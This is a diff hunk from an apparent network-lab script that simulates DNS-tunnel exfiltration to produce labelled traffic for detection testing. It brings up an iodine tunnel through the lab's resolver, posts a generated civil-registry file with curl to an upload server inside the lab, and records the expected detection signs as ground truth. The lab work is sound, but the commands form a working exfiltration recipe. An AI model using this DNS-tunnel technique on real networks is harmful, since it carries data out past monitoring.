@@ -221,19 +221,19 @@ exfil_dns_tunnel() { # ws kbytes
   local f="$RD/etat-civil-extrait.csv"; /usr/bin/python3 "$LAB_DIR/tools/gen_content.py" registry "$f" $((kb * 1024 / 100))
   step_begin
   # iodine client through the city's resolver (-r: never bypass DNS with raw UDP)
-  setsid ip netns exec $P$ws timeout 150 iodine -f -r -P labtunnel $IP_DNS $TUNNEL_DOMAIN </dev/null >"$RD/log/iodine.log" 2>&1 &
+  setsid bash -c 'source "$0"; nsc "$@"' "$LAB_DIR/lib.sh" $ws timeout 150 iodine -f -r -P labtunnel $IP_DNS $TUNNEL_DOMAIN </dev/null >"$RD/log/iodine.log" 2>&1 &
   local ipid=$! i
   for i in $(seq 1 90); do grep -q "Connection setup complete" "$RD/log/iodine.log" 2>/dev/null && break; sleep 0.5; done
   if grep -q "Connection setup complete" "$RD/log/iodine.log" 2>/dev/null; then
-    setsid ip netns exec ${P}drop timeout 150 /usr/bin/python3 "$LAB_DIR/tools/upload_server.py" 172.30.66.1 8080 "$RD/log/tunnel-received.log" </dev/null >"$RD/log/tunnel-server.log" 2>&1 &
+    setsid bash -c 'source "$0"; nsc drop timeout 150 /usr/bin/python3 "$@"' "$LAB_DIR/lib.sh" "$LAB_DIR/tools/upload_server.py" 172.30.66.1 8080 "$RD/log/tunnel-received.log" </dev/null >"$RD/log/tunnel-server.log" 2>&1 &
     local spid=$!
     for i in $(seq 1 50); do nsx drop ss -lnt | grep -q "172.30.66.1:8080 " && break; sleep 0.2; done
     qt nsx "$ws" timeout 120 curl -s -o /dev/null --retry 3 --retry-connrefused --data-binary @"$f" http://172.30.66.1:8080/x
-    kill $spid 2>/dev/null || true
+    ns_kill drop "upload_server.py 172.30.66.1"
   else
     log "exfil_dns_tunnel: tunnel did not come up (see $RD/log/iodine.log)"
   fi
-  kill $ipid 2>/dev/null || true; sleep 0.5
+  ns_kill "$ws" "iodine -f"; sleep 0.5
   step_end
   gt_add exfiltration dns_tunnel "$ip" "$IP_DNS $IP_REFLECTOR $IP_DROP" "$T0" "$T1" \
     "DNS tunnel (iodine) from $ip to $TUNNEL_DOMAIN (server $IP_DROP) through resolvers $IP_DNS and $IP_REFLECTOR: long high-entropy query names under $TUNNEL_DOMAIN, NULL/TXT/CNAME answers, $(stat -c %s "$f") bytes of the civil registry carried" \
